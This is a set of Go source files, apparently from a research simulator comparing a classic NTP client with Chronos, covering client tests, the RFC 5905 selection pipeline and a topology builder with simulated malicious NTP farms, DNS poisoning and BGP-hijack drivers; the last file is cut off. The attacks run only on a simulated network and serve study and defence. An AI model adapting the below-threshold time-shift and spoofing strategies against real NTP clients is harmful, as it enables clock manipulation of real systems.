		t.Fatal(err)
	}
	ips = append(ips, hips...)
	if malicious > 0 {
		msrv, mips, err := ntpserver.MaliciousFarm(n, simnet.IPv4(66, 0, 0, 1), malicious, ntpserver.ConstantShift(shift))
		if err != nil {
			t.Fatal(err)
		}
		servers = append(servers, msrv...)
		ips = append(ips, mips...)
	}
	ch, err := n.AddHost(clientIP)
	if err != nil {
		t.Fatal(err)
	}
	clk := clock.New(n.Now(), initialErr, 0)
	cli := New(ch, clk, nil, Config{ServerIPs: ips, MaxServers: len(ips), PollInterval: 16 * time.Second})
	return &rig{net: n, client: cli, servers: servers}
}

func start(t *testing.T, r *rig) {
	t.Helper()
	var startErr error
	done := false
	r.client.Start(func(err error) { startErr, done = err, true })
	r.net.RunFor(time.Second)
	if !done {
		t.Fatal("start never completed")
	}
	if startErr != nil {
		t.Fatal(startErr)
	}
}

func TestConvergesWithHonestServers(t *testing.T) {
	r := newRig(t, 61, 4, 0, 0, 90*time.Millisecond)
	start(t, r)
	r.net.RunFor(5 * time.Minute)
	off := r.client.Offset()
	if off < -10*time.Millisecond || off > 10*time.Millisecond {
		t.Errorf("offset after sync = %v, want ~0", off)
	}
	if r.client.Stats().Syncs == 0 {
		t.Error("no syncs recorded")
	}
}

func TestStepsOnLargeInitialError(t *testing.T) {
	r := newRig(t, 62, 4, 0, 0, 2*time.Second)
	start(t, r)
	r.net.RunFor(2 * time.Minute)
	if r.client.Stats().Steps == 0 {
		t.Error("expected a step for a 2s initial error")
	}
	off := r.client.Offset()
	if off < -10*time.Millisecond || off > 10*time.Millisecond {
		t.Errorf("offset = %v", off)
	}
}

func TestMinorityFalsetickerDiscarded(t *testing.T) {
	// 3 honest + 1 malicious (10s shift): the intersection algorithm must
	// keep the client honest.
	r := newRig(t, 63, 3, 1, 10*time.Second, 0)
	start(t, r)
	r.net.RunFor(5 * time.Minute)
	off := r.client.Offset()
	if off < -10*time.Millisecond || off > 10*time.Millisecond {
		t.Errorf("offset with minority falseticker = %v, want ~0", off)
	}
}

func TestMajorityAttackShiftsClient(t *testing.T) {
	// 1 honest + 3 malicious (all agreeing on +10s): classic NTP follows
	// the majority clique — this is the post-DNS-poisoning situation for
	// a traditional client.
	r := newRig(t, 64, 1, 3, 10*time.Second, 0)
	start(t, r)
	r.net.RunFor(5 * time.Minute)
	off := r.client.Offset()
	if off < 9*time.Second {
		t.Errorf("offset under majority attack = %v, want ~10s", off)
	}
}

func TestPanicThresholdRejectsHugeShift(t *testing.T) {
	// All servers claim a 2000s shift: beyond the panic threshold, the
	// client refuses to follow.
	r := newRig(t, 65, 0, 4, 2000*time.Second, 0)
	start(t, r)
	r.net.RunFor(5 * time.Minute)
	off := r.client.Offset()
	if off > time.Millisecond || off < -time.Millisecond {
		t.Errorf("offset = %v, want 0 (panic reject)", off)
	}
	if r.client.Stats().PanicRejects == 0 {
		t.Error("no panic rejects recorded")
	}
}

func TestAttackerJustBelowPanicSucceeds(t *testing.T) {
	// The classic NTP weakness: a shift just below the panic threshold is
	// accepted (stepped) in a single poll.
	r := newRig(t, 66, 0, 4, 900*time.Second, 0)
	start(t, r)
	r.net.RunFor(2 * time.Minute)
	off := r.client.Offset()
	if off < 890*time.Second {
		t.Errorf("offset = %v, want ~900s", off)
	}
}

func TestMaxServersCap(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 67})
	_, ips, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 113, 1), 10, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{ServerIPs: ips}) // default MaxServers = 4
	var done bool
	cli.Start(func(err error) { done = err == nil })
	n.RunFor(time.Second)
	if !done {
		t.Fatal("start failed")
	}
	if got := len(cli.Servers()); got != 4 {
		t.Errorf("associations = %d, want capped at 4", got)
	}
}

func TestNoServersError(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 68})
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{})
	var gotErr error
	cli.Start(func(err error) { gotErr = err })
	n.RunFor(time.Second)
	if gotErr == nil {
		t.Error("expected ErrNoServers")
	}
}

func TestDoubleStartRejected(t *testing.T) {
	r := newRig(t, 69, 2, 0, 0, 0)
	start(t, r)
	var second error
	r.client.Start(func(err error) { second = err })
	r.net.RunFor(time.Second)
	if second == nil {
		t.Error("second Start accepted")
	}
}

func TestStopHaltsPolling(t *testing.T) {
	r := newRig(t, 70, 2, 0, 0, 0)
	start(t, r)
	r.net.RunFor(30 * time.Second)
	r.client.Stop()
	polls := r.client.Stats().Polls
	r.net.RunFor(5 * time.Minute)
	if r.client.Stats().Polls != polls {
		t.Error("polling continued after Stop")
	}
}

func TestSpoofedResponseWithoutOriginIgnored(t *testing.T) {
	// An off-path attacker spoofing the server address but not knowing
	// the client's transmit timestamp cannot inject time.
	r := newRig(t, 71, 1, 0, 0, 0)
	start(t, r)
	r.net.RunFor(time.Second)
	serverAddr := r.client.Servers()[0]

	// Continuously inject spoofed responses claiming +100s.
	for i := 0; i < 50; i++ {
		resp := &ntpwire.Packet{
			Version: 4, Mode: ntpwire.ModeServer, Stratum: 2,
			OriginTime:   ntpwire.TimestampFromTime(r.net.Now()), // wrong: not the client's T1
			ReceiveTime:  ntpwire.TimestampFromTime(r.net.Now().Add(100 * time.Second)),
			TransmitTime: ntpwire.TimestampFromTime(r.net.Now().Add(100 * time.Second)),
		}
		// The attacker must also guess the ephemeral port; try a spread.
		for port := uint16(49152); port < 49157; port++ {
			datagram := simnet.EncodeUDP(serverAddr, simnet.Addr{IP: clientIP, Port: port}, resp.Encode())
			r.net.Inject(simnet.Packet{
				Src: serverAddr.IP, Dst: clientIP, Proto: simnet.ProtoUDP,
				ID: uint16(i), Payload: datagram,
			}, time.Duration(i)*100*time.Millisecond)
		}
	}
	r.net.RunFor(2 * time.Minute)
	off := r.client.Offset()
	if off > 50*time.Millisecond || off < -50*time.Millisecond {
		t.Errorf("spoofed responses shifted client to %v", off)
	}
}

func TestDNSBootstrapOnce(t *testing.T) {
	// Client resolves pool.ntp.org through a resolver exactly once.
	n := simnet.New(simnet.Config{Seed: 72})
	_, ips, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 113, 1), 8, time.Millisecond, 0)
	if err != nil {
		t.Fatal(err)
	}
	authHost, _ := n.AddHost(simnet.IPv4(198, 51, 100, 10))
	auth, _ := dnsserver.New(authHost)
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), ips)
	if err != nil {
		t.Fatal(err)
	}
	_ = auth.AddZone("pool.ntp.org", pool)

	resHost, _ := n.AddHost(simnet.IPv4(10, 0, 0, 53))
	res, err := dnsresolver.New(resHost, dnsresolver.Config{}, []dnsresolver.Hint{
		{Zone: "pool.ntp.org", Addr: auth.Addr()},
	})
	if err != nil {
		t.Fatal(err)
	}

	ch, _ := n.AddHost(clientIP)
	stub := dnsresolver.NewStub(ch, res.Addr(), 0)
	cli := New(ch, clock.New(n.Now(), 500*time.Millisecond, 0), stub,
		Config{PoolName: "pool.ntp.org", PollInterval: 16 * time.Second})
	var startErr error
	done := false
	cli.Start(func(err error) { startErr, done = err, true })
	n.RunFor(5 * time.Second)
	if !done || startErr != nil {
		t.Fatalf("start: done=%v err=%v", done, startErr)
	}
	if got := len(cli.Servers()); got != 4 {
		t.Fatalf("servers = %d, want 4", got)
	}
	n.RunFor(10 * time.Minute)
	if off := cli.Offset(); off < -10*time.Millisecond || off > 10*time.Millisecond {
		t.Errorf("offset = %v", off)
	}
	// The classic client performed exactly one DNS resolution.
	if q := res.Stats().ClientQueries; q != 1 {
		t.Errorf("DNS client queries = %d, want 1 (resolve once at startup)", q)
	}
}

func TestIntersectUnit(t *testing.T) {
	mk := func(off, rd time.Duration) candidate {
		return candidate{offset: off, rdist: rd}
	}
	// Three clustered + one far falseticker.
	cands := []candidate{
		mk(0, 20*time.Millisecond),
		mk(2*time.Millisecond, 20*time.Millisecond),
		mk(-3*time.Millisecond, 20*time.Millisecond),
		mk(10*time.Second, 20*time.Millisecond),
	}
	got := intersect(cands)
	if len(got) != 3 {
		t.Fatalf("survivors = %d, want 3", len(got))
	}
	for _, s := range got {
		if s.offset > time.Second {
			t.Error("falseticker survived")
		}
	}
	// Empty in → empty out.
	if out := intersect(nil); len(out) != 0 {
		t.Error("intersect(nil) non-empty")
	}
	// Single candidate survives.
	if out := intersect(cands[:1]); len(out) != 1 {
		t.Error("single candidate should survive")
	}
	// Two disjoint candidates: no majority intersection exists.
	disjoint := []candidate{
		mk(0, time.Millisecond),
		mk(time.Second, time.Millisecond),
	}
	if out := intersect(disjoint); len(out) != 0 {
		t.Errorf("disjoint pair should yield no consensus, got %d", len(out))
	}
}

func TestClusterUnit(t *testing.T) {
	mk := func(off, rd time.Duration) candidate {
		return candidate{offset: off, rdist: rd}
	}
	survivors := []candidate{
		mk(0, time.Millisecond),
		mk(time.Millisecond, time.Millisecond),
		mk(-time.Millisecond, time.Millisecond),
		mk(400*time.Millisecond, time.Millisecond), // outlier by jitter
		mk(2*time.Millisecond, time.Millisecond),
	}
	got := cluster(survivors, 3)
	if len(got) > 4 {
		t.Fatalf("cluster kept %d", len(got))
	}
	for _, s := range got {
		if s.offset == 400*time.Millisecond && len(got) > 3 {
			t.Error("outlier survived clustering")
		}
	}
}

func TestCombineWeightsByDistance(t *testing.T) {
	survivors := []candidate{
		{offset: 0, rdist: time.Millisecond},                 // high weight
		{offset: 100 * time.Millisecond, rdist: time.Second}, // low weight
	}
	got := combine(survivors)
	if got > 10*time.Millisecond {
		t.Errorf("combine = %v, want dominated by the accurate server", got)
	}
	if combine(nil) != 0 {
		t.Error("combine(nil) != 0")
	}
}

func TestStringer(t *testing.T) {
	r := newRig(t, 73, 1, 0, 0, 0)
	if r.client.String() == "" {
		t.Error("String empty")
	}
}
