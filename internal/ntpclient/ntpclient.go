// Package ntpclient implements a classic RFC 5905 NTP client — the
// baseline the paper compares Chronos against ("traditional NTP which
// queries few (typically up to 4) NTP servers").
//
// The pipeline follows the reference architecture:
//
//	poll → clock filter (8-stage, minimum-delay sample)
//	     → selection (the intersection algorithm: find the largest clique
//	       of correctness intervals, discarding "falsetickers")
//	     → clustering (discard outliers by selection jitter)
//	     → combining (weighted average)
//	     → discipline (slew below the 128 ms step threshold, step above
//	       it, reject beyond the 1000 s panic threshold)
//
// Two behaviours matter for the paper's contrast with Chronos:
//
//   - the server list is resolved over DNS once at startup, so a DNS
//     attacker gets exactly one poisoning opportunity, and
//   - at most MaxServers (4) servers are used, so a successful poisoning
//     controls the entire server set but never more than 4 addresses.
package ntpclient

import (
	"errors"
	"fmt"
	"math"
	"sort"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// Errors reported by the client.
var (
	ErrNoServers  = errors.New("ntpclient: no servers resolved")
	ErrNotStarted = errors.New("ntpclient: not started")
)

// Config parameterises a Client.
type Config struct {
	PoolName       string        // DNS name resolved once at startup (e.g. "pool.ntp.org")
	ServerIPs      []simnet.IP   // static server list; used when PoolName is empty
	MaxServers     int           // cap on associations; default 4
	PollInterval   time.Duration // default 64s
	StepThreshold  time.Duration // default 128ms
	PanicThreshold time.Duration // offsets beyond are discarded; default 1000s
	MinSurvivors   int           // minimum cluster survivors to sync; default 1

	// Auth is the client's authentication policy, applied to every
	// association (the classic ntpd "server ... key N" shape: one
	// symmetric key shared with the pool). nil polls unauthenticated
	// with requests byte-identical to the pre-auth client. Replies are
	// checked against it, and Kiss-o'-Death packets drive the per-
	// association ntpauth.AssocState machine — demobilize on DENY/RSTR,
	// back off on RATE — with unauthenticated kisses ignored when the
	// policy requires authentication.
	Auth *ntpauth.ClientAuth
}

func (c Config) withDefaults() Config {
	if c.MaxServers == 0 {
		c.MaxServers = 4
	}
	if c.PollInterval == 0 {
		c.PollInterval = 64 * time.Second
	}
	if c.StepThreshold == 0 {
		c.StepThreshold = 128 * time.Millisecond
	}
	if c.PanicThreshold == 0 {
		c.PanicThreshold = 1000 * time.Second
	}
	if c.MinSurvivors == 0 {
		c.MinSurvivors = 1
	}
	return c
}

// Stats counts client activity.
type Stats struct {
	Polls        uint64
	Responses    uint64
	Syncs        uint64
	Steps        uint64
	Slews        uint64
	PanicRejects uint64
	NoConsensus  uint64
	KoDKisses    uint64 // Kiss-o'-Death replies received (believed or not)
	AuthRejects  uint64 // replies dropped by the authentication policy
}

// filterSample is one clock-filter stage.
type filterSample struct {
	offset time.Duration
	delay  time.Duration
	at     time.Time
}

// association tracks one server peer.
type association struct {
	addr    simnet.Addr
	port    uint16
	filter  []filterSample // most recent last, max 8
	reach   uint8
	sentT1  time.Time // local clock at last request (origin check)
	trueT1  time.Time // true time at last request
	pending bool

	kod       ntpauth.AssocState // DENY/RSTR demobilization, RATE strikes
	skipPolls int                // polls to sit out after a believed RATE kiss
}

// candidate is the clock-filtered view of one association handed to the
// selection algorithm.
type candidate struct {
	assoc  *association
	offset time.Duration
	rdist  time.Duration // root distance λ = delay/2 + dispersion floor
}

// Client is a classic NTP client bound to a simulated host.
type Client struct {
	host    *simnet.Host
	clk     *clock.Clock
	stub    dnsresolver.Lookuper
	cfg     Config
	assocs  []*association
	stats   Stats
	started bool
	stopped bool
	timer   simnet.Timer

	// Poll-loop method values bound once so the steady state schedules
	// timers without allocating closures.
	pollFn    func()
	processFn func()
	wireBuf   []byte // request encode scratch, reused across polls
}

// New builds a client. stub is any dnsresolver.Lookuper — the UDP
// *dnsresolver.Stub in the single-client scenarios, or a shared
// *dnsresolver.Resolver handle in the fleet experiments — and may be nil
// when cfg.ServerIPs is used.
func New(host *simnet.Host, clk *clock.Clock, stub dnsresolver.Lookuper, cfg Config) *Client {
	c := &Client{host: host, clk: clk, stub: stub, cfg: cfg.withDefaults()}
	c.pollFn = c.poll
	c.processFn = c.process
	return c
}

// Clock returns the disciplined clock.
func (c *Client) Clock() *clock.Clock { return c.clk }

// Stats returns an activity snapshot.
func (c *Client) Stats() Stats { return c.stats }

// Servers returns the addresses of the active associations.
func (c *Client) Servers() []simnet.Addr {
	return c.ServersInto(make([]simnet.Addr, 0, len(c.assocs)))
}

// ServersInto appends the association addresses to dst and returns it,
// letting measurement loops reuse one scratch slice across many clients.
func (c *Client) ServersInto(dst []simnet.Addr) []simnet.Addr {
	for _, a := range c.assocs {
		dst = append(dst, a.addr)
	}
	return dst
}

// Start resolves the server list (once — the classic behaviour) and begins
// the poll loop. The callback, if non-nil, fires after startup completes
// or fails.
func (c *Client) Start(done func(err error)) {
	if c.started {
		if done != nil {
			done(errors.New("ntpclient: already started"))
		}
		return
	}
	c.started = true
	finish := func(ips []simnet.IP, err error) {
		if err == nil && len(ips) == 0 {
			err = ErrNoServers
		}
		if err != nil {
			if done != nil {
				done(err)
			}
			return
		}
		if len(ips) > c.cfg.MaxServers {
			ips = ips[:c.cfg.MaxServers]
		}
		backing := make([]association, len(ips))
		c.assocs = make([]*association, len(ips))
		for i, ip := range ips {
			backing[i].addr = simnet.Addr{IP: ip, Port: ntpwire.Port}
			c.assocs[i] = &backing[i]
		}
		c.schedulePoll(0)
		if done != nil {
			done(nil)
		}
	}
	if c.cfg.PoolName == "" {
		finish(c.cfg.ServerIPs, nil)
		return
	}
	if c.stub == nil {
		finish(nil, errors.New("ntpclient: pool name set but no DNS stub"))
		return
	}
	dnsresolver.LookupA(c.stub, c.cfg.PoolName, finish)
}

// Stop halts the poll loop and releases ports.
func (c *Client) Stop() {
	c.stopped = true
	c.timer.Cancel()
	for _, a := range c.assocs {
		if a.port != 0 {
			c.host.Close(a.port)
			a.port = 0
		}
	}
}

func (c *Client) schedulePoll(d time.Duration) {
	if c.stopped {
		return
	}
	c.timer = c.host.Net().After(d, c.pollFn)
}

// poll sends one request to every association, then processes responses
// shortly afterwards.
func (c *Client) poll() {
	if c.stopped {
		return
	}
	net := c.host.Net()
	for _, a := range c.assocs {
		c.sendRequest(a)
	}
	c.stats.Polls++
	// Give responses one second of simulated time, then run selection.
	net.After(time.Second, c.processFn)
	c.schedulePoll(c.cfg.PollInterval)
}

func (c *Client) sendRequest(a *association) {
	if !a.kod.Usable() {
		return // demobilized by an authenticated (or believed) DENY/RSTR
	}
	if a.skipPolls > 0 {
		a.skipPolls--
		return // RATE back-off: sit this poll out
	}
	if a.port == 0 {
		a.port = c.host.EphemeralPort()
		if err := c.host.Listen(a.port, c.responseHandler(a)); err != nil {
			return
		}
	}
	now := c.host.Net().Now()
	a.trueT1 = now
	a.sentT1 = c.clk.Now(now)
	a.pending = true
	a.reach <<= 1
	var req ntpwire.Packet
	ntpwire.FillClientPacket(&req, a.sentT1)
	// SendUDP copies the payload into a pooled buffer, so one request
	// scratch per client serves every poll without allocating. The auth
	// policy appends this association's credentials (no-op when nil).
	c.wireBuf = req.AppendEncode(c.wireBuf[:0])
	c.wireBuf = c.cfg.Auth.SealRequest(c.wireBuf)
	_ = c.host.SendUDP(a.port, a.addr, c.wireBuf)
}

// responseHandler validates and files one server response.
func (c *Client) responseHandler(a *association) simnet.Handler {
	return func(now time.Time, meta simnet.Meta, payload []byte) {
		if meta.From != a.addr || !a.pending {
			return
		}
		resp, err := ntpwire.Decode(payload)
		if err != nil {
			return
		}
		if ntpauth.IsKoD(resp) {
			// Believe only kisses that echo our origin (blind off-path
			// spoofing is still defeated) and that pass the auth policy
			// when one requires it.
			if resp.OriginTime != ntpwire.TimestampFromTime(a.sentT1) {
				return
			}
			c.stats.KoDKisses++
			authed, _ := c.cfg.Auth.VerifyResponse(payload)
			believed := authed || !c.cfg.Auth.RequiresAuth()
			a.kod.OnKoD(ntpauth.Code(resp), authed, c.cfg.Auth.RequiresAuth())
			if believed && ntpauth.Code(resp) == ntpauth.KissRATE {
				a.skipPolls += 2 // quadruple the effective poll interval once
			}
			a.pending = false
			return
		}
		if !ntpwire.ValidServerResponse(resp, ntpwire.TimestampFromTime(a.sentT1)) {
			return
		}
		if _, acceptable := c.cfg.Auth.VerifyResponse(payload); !acceptable {
			c.stats.AuthRejects++
			return
		}
		a.pending = false
		a.reach |= 1
		c.stats.Responses++

		t4 := c.clk.Now(now)
		offset, delay := ntpwire.OffsetDelay(a.sentT1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
		a.filter = append(a.filter, filterSample{offset: offset, delay: delay, at: now})
		if len(a.filter) > 8 {
			a.filter = a.filter[len(a.filter)-8:]
		}
	}
}

// clockFilter returns the minimum-delay sample of the association's filter
// (the RFC 5905 clock-filter output).
func (a *association) clockFilter() (filterSample, bool) {
	if len(a.filter) == 0 {
		return filterSample{}, false
	}
	best := a.filter[0]
	for _, s := range a.filter[1:] {
		if s.delay < best.delay {
			best = s
		}
	}
	return best, true
}

// process runs selection → cluster → combine → discipline.
func (c *Client) process() {
	if c.stopped {
		return
	}
	var cands []candidate
	for _, a := range c.assocs {
		if a.reach == 0 {
			continue
		}
		s, ok := a.clockFilter()
		if !ok {
			continue
		}
		rdist := s.delay/2 + 10*time.Millisecond // dispersion floor
		cands = append(cands, candidate{assoc: a, offset: s.offset, rdist: rdist})
	}
	if len(cands) == 0 {
		c.stats.NoConsensus++
		return
	}
	survivors := intersect(cands)
	if len(survivors) == 0 {
		c.stats.NoConsensus++
		return
	}
	survivors = cluster(survivors, 3)
	if len(survivors) < c.cfg.MinSurvivors {
		c.stats.NoConsensus++
		return
	}
	offset := combine(survivors)
	c.apply(offset)
}

// apply disciplines the local clock with the combined offset.
func (c *Client) apply(offset time.Duration) {
	abs := offset
	if abs < 0 {
		abs = -abs
	}
	switch {
	case abs > c.cfg.PanicThreshold:
		c.stats.PanicRejects++
		return
	case abs > c.cfg.StepThreshold:
		c.stats.Steps++
	default:
		c.stats.Slews++
	}
	now := c.host.Net().Now()
	c.clk.Step(now, offset)
	c.stats.Syncs++
}

// intersect implements the RFC 5905 §11.2.1 selection ("intersection")
// algorithm: find the largest group of candidates whose correctness
// intervals [θ−λ, θ+λ] share a point, tolerating up to f < n/2
// falsetickers. It returns the candidates whose intervals contain the
// computed intersection.
func intersect(cands []candidate) []candidate {
	n := len(cands)
	type edge struct {
		value time.Duration
		typ   int // -1 = lower endpoint, 0 = midpoint, +1 = upper endpoint
	}
	edges := make([]edge, 0, 3*n)
	for _, cd := range cands {
		edges = append(edges,
			edge{cd.offset - cd.rdist, -1},
			edge{cd.offset, 0},
			edge{cd.offset + cd.rdist, +1},
		)
	}
	sort.Slice(edges, func(i, j int) bool {
		if edges[i].value != edges[j].value {
			return edges[i].value < edges[j].value
		}
		return edges[i].typ < edges[j].typ
	})

	var low, high time.Duration
	found := false
	for allow := 0; 2*allow < n; allow++ {
		// Scan upward for the low endpoint.
		chime := 0
		midsBelow := 0
		gotLow := false
		var lo time.Duration
		for _, e := range edges {
			switch e.typ {
			case -1:
				chime++
			case 0:
				midsBelow++
			case +1:
				chime--
			}
			if chime >= n-allow {
				lo = e.value
				gotLow = true
				break
			}
		}
		// Scan downward for the high endpoint.
		chime = 0
		gotHigh := false
		var hi time.Duration
		for i := len(edges) - 1; i >= 0; i-- {
			switch edges[i].typ {
			case +1:
				chime++
			case -1:
				chime--
			}
			if chime >= n-allow {
				hi = edges[i].value
				gotHigh = true
				break
			}
		}
		if gotLow && gotHigh && lo <= hi {
			low, high, found = lo, hi, true
			break
		}
	}
	if !found {
		return nil
	}
	var out []candidate
	for _, cd := range cands {
		if cd.offset-cd.rdist <= high && cd.offset+cd.rdist >= low {
			out = append(out, cd)
		}
	}
	return out
}

// cluster implements the RFC 5905 §11.2.2 clustering algorithm: repeatedly
// discard the survivor with the largest selection jitter until at most
// keep remain or jitter no longer improves.
func cluster(survivors []candidate, keep int) []candidate {
	out := append([]candidate(nil), survivors...)
	for len(out) > keep {
		// Selection jitter of j: RMS of offset differences to the others.
		worst, worstJitter := -1, -1.0
		minRdist := math.MaxFloat64
		for j := range out {
			var sum float64
			for i := range out {
				if i == j {
					continue
				}
				d := float64(out[j].offset - out[i].offset)
				sum += d * d
			}
			jitter := math.Sqrt(sum / float64(len(out)-1))
			if jitter > worstJitter {
				worst, worstJitter = j, jitter
			}
			if rd := float64(out[j].rdist); rd < minRdist {
				minRdist = rd
			}
		}
		// Stop when the worst jitter is already below the best accuracy:
		// discarding more cannot improve the estimate.
		if worstJitter <= minRdist {
			break
		}
		out = append(out[:worst], out[worst+1:]...)
	}
	return out
}

// combine implements the RFC 5905 §11.2.3 combine algorithm: a weighted
// average of survivor offsets with weights 1/λ.
func combine(survivors []candidate) time.Duration {
	var num, den float64
	for _, s := range survivors {
		w := 1.0 / math.Max(float64(s.rdist), float64(time.Microsecond))
		num += w * float64(s.offset)
		den += w
	}
	if den == 0 {
		return 0
	}
	return time.Duration(num / den)
}

// Offset reports the client clock's current error against true time — the
// measurement every experiment records. (Test/experiment instrumentation;
// a real client cannot observe this.)
func (c *Client) Offset() time.Duration {
	return c.clk.Offset(c.host.Net().Now())
}

// String implements fmt.Stringer.
func (c *Client) String() string {
	return fmt.Sprintf("ntpclient{servers=%d syncs=%d}", len(c.assocs), c.stats.Syncs)
}
