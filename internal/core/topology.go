package core

import (
	"fmt"
	"time"

	"chronosntp/internal/attack"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/simnet"
)

// This file holds the reusable topology builders extracted from Scenario:
// the NTP-farm + DNS-hierarchy backbone, resolver wiring, and attacker
// installation. Scenario composes them for the paper's single-client
// setting; internal/fleet composes the same builders once per resolver
// shard for the population-scale experiments. Builders add hosts in a
// fixed order so that a given simnet seed keeps producing bit-identical
// runs.

// BackboneConfig parameterises the shared attack surface every scenario
// variant stands on: the honest and malicious NTP server farms and the
// root → ntp.org → pool.ntp.org DNS hierarchy.
type BackboneConfig struct {
	BenignServers    int           // pool.ntp.org inventory; default 500
	MaliciousServers int           // attacker NTP servers; default 89
	RampPerRound     time.Duration // malicious shift growth per sync round; default 20ms
	SyncInterval     time.Duration // ramp round length; default 64s
}

func (c BackboneConfig) withDefaults() BackboneConfig {
	if c.BenignServers == 0 {
		c.BenignServers = 500
	}
	if c.MaliciousServers == 0 {
		c.MaliciousServers = 89
	}
	if c.RampPerRound == 0 {
		c.RampPerRound = 20 * time.Millisecond
	}
	if c.SyncInterval == 0 {
		c.SyncInterval = 64 * time.Second
	}
	return c
}

// Backbone is the built topology: the server populations plus the DNS
// hierarchy serving the rotating pool zone, all on one simulated network.
type Backbone struct {
	Net       *simnet.Network
	HonestIPs []simnet.IP
	EvilIPs   []simnet.IP
	Pool      *dnsserver.PoolZone
	RootAddr  simnet.Addr

	cfg       BackboneConfig
	evilSet   map[simnet.IP]bool
	rampStart time.Time
}

// BuildBackbone wires the farms and the DNS hierarchy onto net. Hosts are
// added in a fixed order (honest farm, malicious farm, root, ntp.org), so
// runs remain bit-reproducible from the network seed.
func BuildBackbone(net *simnet.Network, cfg BackboneConfig) (*Backbone, error) {
	cfg = cfg.withDefaults()
	b := &Backbone{Net: net, cfg: cfg, evilSet: make(map[simnet.IP]bool)}

	// NTP server population. Pool servers are themselves synchronised,
	// so their absolute error stays small (ms offsets, negligible drift)
	// even across the 24-hour pool-generation horizon.
	var err error
	_, b.HonestIPs, err = ntpserver.Farm(net, honestBase, cfg.BenignServers, 2*time.Millisecond, 0.2)
	if err != nil {
		return nil, fmt.Errorf("%w: honest farm: %v", ErrScenario, err)
	}
	ramp := ntpserver.ShiftFunc(func(now time.Time) time.Duration {
		if b.rampStart.IsZero() || now.Before(b.rampStart) {
			return 0
		}
		rounds := int64(now.Sub(b.rampStart)/cfg.SyncInterval) + 1
		return time.Duration(rounds) * cfg.RampPerRound
	})
	_, b.EvilIPs, err = ntpserver.MaliciousFarm(net, evilBase, cfg.MaliciousServers, ramp)
	if err != nil {
		return nil, fmt.Errorf("%w: malicious farm: %v", ErrScenario, err)
	}
	for _, ip := range b.EvilIPs {
		b.evilSet[ip] = true
	}

	// DNS hierarchy: root delegates ntp.org; the ntp.org server hosts the
	// rotating pool zone.
	rootHost, err := net.AddHost(rootIP)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	rootSrv, err := dnsserver.New(rootHost)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	rootZone := dnsserver.NewDelegatingZone("")
	rootZone.Delegate(dnsserver.Delegation{
		Child: "ntp.org", NSTTL: nsTTL,
		Glue: []dnsserver.NSGlue{{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: nsTTL}},
	})
	if err := rootSrv.AddZone("", rootZone); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}

	ntpHost, err := net.AddHost(ntpOrgIP)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	ntpSrv, err := dnsserver.New(ntpHost)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	b.Pool, err = dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: PoolName}, net.Now(), b.HonestIPs)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	if err := ntpSrv.AddZone(PoolName, b.Pool); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	b.RootAddr = simnet.Addr{IP: rootIP, Port: dnsresolver.DNSPort}
	return b, nil
}

// IsMalicious reports whether ip belongs to the attacker's farm.
func (b *Backbone) IsMalicious(ip simnet.IP) bool { return b.evilSet[ip] }

// Classify splits ips into benign and malicious counts.
func (b *Backbone) Classify(ips []simnet.IP) (benign, malicious int) {
	for _, ip := range ips {
		if b.evilSet[ip] {
			malicious++
		} else {
			benign++
		}
	}
	return benign, malicious
}

// StartRamp begins the malicious farms' below-threshold time-shift ramp at
// the current virtual instant (the start of the post-build attack phase).
func (b *Backbone) StartRamp() { b.rampStart = b.Net.Now() }

// NewResolver adds a caching resolver host at ip with the root hint and
// the given §V acceptance policy.
func (b *Backbone) NewResolver(ip simnet.IP, policy dnsresolver.AcceptancePolicy) (*dnsresolver.Resolver, error) {
	rh, err := b.Net.AddHost(ip)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	res, err := dnsresolver.New(rh, dnsresolver.Config{
		EDNSSize: 4096,
		Accept:   policy,
	}, []dnsresolver.Hint{{Zone: "", Addr: b.RootAddr}})
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	return res, nil
}

// AttackerConfig wires one mechanism's infrastructure against one victim
// resolver.
type AttackerConfig struct {
	Mechanism      Mechanism
	Servers        []simnet.IP   // malicious NTP inventory for forged responses
	ForgedTTL      time.Duration // default attack.DefaultForgedTTL
	VictimResolver simnet.IP     // whose cache the Defrag mechanism poisons
}

// Attacker bundles the mechanism-specific drivers built by
// InstallAttacker. Exactly one of Poisoner/Hijacker is non-nil (none for
// NoAttack).
type Attacker struct {
	Mechanism Mechanism
	Forge     *attack.ResponseForge
	Poisoner  *attack.FragPoisoner
	Hijacker  *attack.BGPHijacker
	Host      *simnet.Host
}

// InstallAttacker adds the attacker hosts and mechanism drivers to net.
// For NoAttack it returns an empty Attacker without touching the network.
func InstallAttacker(net *simnet.Network, cfg AttackerConfig) (*Attacker, error) {
	a := &Attacker{Mechanism: cfg.Mechanism}
	if cfg.Mechanism == NoAttack || cfg.Mechanism == 0 {
		return a, nil
	}
	ttl := cfg.ForgedTTL
	if ttl == 0 {
		ttl = attack.DefaultForgedTTL
	}
	attHost, err := net.AddHost(attackerIP)
	if err != nil {
